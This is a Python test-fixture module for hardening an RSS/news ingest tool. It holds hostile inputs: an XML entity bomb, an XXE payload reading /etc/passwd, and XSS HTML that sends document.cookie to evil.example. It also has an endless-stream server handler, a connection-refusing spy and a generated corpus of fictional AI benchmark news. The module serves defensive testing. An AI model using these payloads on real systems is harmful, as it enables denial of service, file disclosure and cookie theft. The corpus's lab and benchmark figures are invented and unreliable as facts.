"""Hostile inputs and a generated corpus for tests/test_hardening.py (our own text, written for these tests).

The HTTP server itself is tests/_ingest_fixtures.FeedServer; here are the bodies and behaviours it
serves, a spy that records (and refuses) every outgoing connection, and a seeded corpus of AI-news
articles with benchmark sentences written to local feed files for the crash and concurrency tests.
"""
from __future__ import annotations

import ipaddress
import random
import socket
from http.server import BaseHTTPRequestHandler
from pathlib import Path

from _ingest_fixtures import item, rss

# ---------------------------------------------------------------------------------------------
# Hostile feed bodies
# ---------------------------------------------------------------------------------------------


def entity_bomb(levels: int = 9, fanout: int = 10) -> bytes:
    """A billion-laughs document: each entity expands to FANOUT copies of the one below it."""
    decls = ['<!ENTITY ha0 "ha">']
    for n in range(1, levels + 1):
        decls.append(f'<!ENTITY ha{n} "{("&ha%d;" % (n - 1)) * fanout}">')
    return (f'<?xml version="1.0"?>\n<!DOCTYPE bomb [{"".join(decls)}]>\n'
            f'<rss version="2.0"><channel><title>Bomb</title><item><guid>bomb-1</guid>'
            f'<title>&ha{levels};</title><description>&ha{levels};</description></item></channel></rss>').encode()


def external_entity(path: str = "/etc/passwd") -> bytes:
    """An XXE document: a general and a parameter entity that name a local file."""
    return (f'<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY leak SYSTEM "file://{path}">'
            f'<!ENTITY % remote SYSTEM "file://{path}"> %remote;]>\n'
            '<rss version="2.0"><channel><title>Leaky</title><item><guid>xxe-1</guid><title>Leak &leak;</title>'
            '<description>The file says: &leak;</description></item></channel></rss>').encode()


MALFORMED = b"<?xml version='1.0'?><rss version='2.0'><channel><title>Cut off</title><item><title>Half an ite"

SCRIPTED_HTML = (
    '<p onclick="steal()">Marlin Labs said its Gannet 3 model scored 61.2 on MMLU-Pro.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<p><a href="javascript:alert(document.domain)">Read more</a> and '
    '<img src="x" onerror="alert(2)"> the <b onmouseover="alert(3)">full</b> report.</p>'
    "<style>body{background:url(javascript:alert(4))}</style><iframe src=\"javascript:alert(5)\"></iframe>"
    "<noscript>NOSCRIPT-TEXT</noscript><svg><script>alert(6)</script></svg>"
)
SCRIPT_MARKERS = ("document.cookie", "steal()", "alert(", "javascript:", "onerror", "onclick", "onmouseover",
                  "<script", "evil.example")


def streaming_forever(chunk: int = 65536, limit: int = 60_000_000):
    """A handler that sends no Content-Length and streams zeros (up to LIMIT) until the client hangs up."""

    def handle(handler: BaseHTTPRequestHandler) -> None:
        try:
            handler.send_response(200)
            handler.send_header("Content-Type", "application/rss+xml")
            handler.send_header("Connection", "close")
            handler.end_headers()
            handler.close_connection = True
            sent = 0
            block = b"<!-- " + b"z" * (chunk - 10) + b" -->"
            while sent < limit:
                handler.wfile.write(block)
                sent += len(block)
        except (BrokenPipeError, ConnectionResetError, OSError):
            pass

    return handle


# ---------------------------------------------------------------------------------------------
# A spy on outgoing connections: the proof that a blocked address was never contacted
# ---------------------------------------------------------------------------------------------


class ConnectSpy:
    """Wraps socket.socket.connect: records every address, refuses (and records) any non-loopback one."""

    def __init__(self, monkeypatch) -> None:
        self.seen: list[tuple[str, int]] = []
        self.refused: list[tuple[str, int]] = []
        original = socket.socket.connect
        spy = self

        def connect(sock, address):
            if sock.family in (socket.AF_INET, socket.AF_INET6):
                host, port = address[0], address[1]
                spy.seen.append((host, port))
                if not ipaddress.ip_address(host.split("%", 1)[0]).is_loopback:
                    spy.refused.append((host, port))
                    raise OSError(f"test spy: refusing a non-loopback connection to {host}")
            return original(sock, address)

        monkeypatch.setattr(socket.socket, "connect", connect)

    def ports_of(self, host: str) -> set[int]:
        return {port for h, port in self.seen if h == host}


# ---------------------------------------------------------------------------------------------
# A generated corpus of news items with benchmark sentences
# ---------------------------------------------------------------------------------------------

LABS = ["Halden Robotics", "Pelican Cloud", "Lattice Labs", "Quill Systems", "Marlin Labs", "Osprey AI",
        "Tamarind Research", "Northwind Compute"]
MODELS = ["Tern", "Corvid", "Gannet", "Heron", "Kestrel", "Plover", "Shrike", "Avocet"]
BENCHMARKS = ["GPQA Diamond", "SWE-bench Verified", "MMLU-Pro", "AIME 2025", "HumanEval", "MATH-500",
              "LiveCodeBench", "Humanity's Last Exam"]
OPENERS = [
    "{lab} said on {day} that {model} scored {value} on {bench} in its own evaluation.",
    "In a technical report, {lab} wrote that {model} reaches {value}% on {bench} without tools.",
    "Testers at an independent lab measured {model} at {value} on {bench}, a little under {lab}'s figure.",
    "{model}, the newest system from {lab}, posted {value} on {bench} according to the company.",
]
CLOSERS = [
    "The company has not said whether the weights will be published.",
    "{lab} released the weights of {model} under the Apache 2.0 licence the same week.",
    "Analysts said the price of the API had fallen by a third since the spring.",
    "{lab} said the model will stay available only through its paid API.",
    "The release follows a funding round that valued {lab} at several billion dollars.",
]
DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]


def corpus_items(count: int, seed: int, prefix: str = "c") -> list[list[str]]:
    """COUNT RSS items (as XML strings) in a few feeds, each with a benchmark sentence; reproducible by SEED."""
    rng = random.Random(seed)
    feeds: list[list[str]] = [[] for _ in range(4)]
    for n in range(count):
        lab = LABS[n % len(LABS)]
        model = f"{MODELS[(n // len(LABS)) % len(MODELS)]}-{n // 64 + 2}.{n % 64}"
        bench = BENCHMARKS[rng.randrange(len(BENCHMARKS))]
        value = round(rng.uniform(20, 95), 1)
        fields = dict(lab=lab, model=model, bench=bench, value=value, day=DAYS[n % len(DAYS)])
        body = " ".join([OPENERS[n % len(OPENERS)].format(**fields), CLOSERS[rng.randrange(len(CLOSERS))].format(**fields),
                         f"Item {n} of the generated corpus covers release {n % 7} of the {lab} roadmap."])
        day = 1 + n % 28
        feeds[n % 4].append(item(f"{prefix}-{n}", f"{model} on {bench}", body, f"https://corpus.example/{prefix}/{n}",
                                 date=f"Mon, {day:02d} Sep 2026 {n % 24:02d}:00:00 GMT"))
    return feeds


def write_corpus(folder: Path, count: int, seed: int, prefix: str = "c") -> list[Path]:
    """Write the corpus as local RSS files in FOLDER; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for f, items in enumerate(corpus_items(count, seed, prefix)):
        path = folder / f"feed{f}.xml"
        path.write_bytes(rss(items, title=f"Corpus feed {f}"))
        paths.append(path)
    return paths
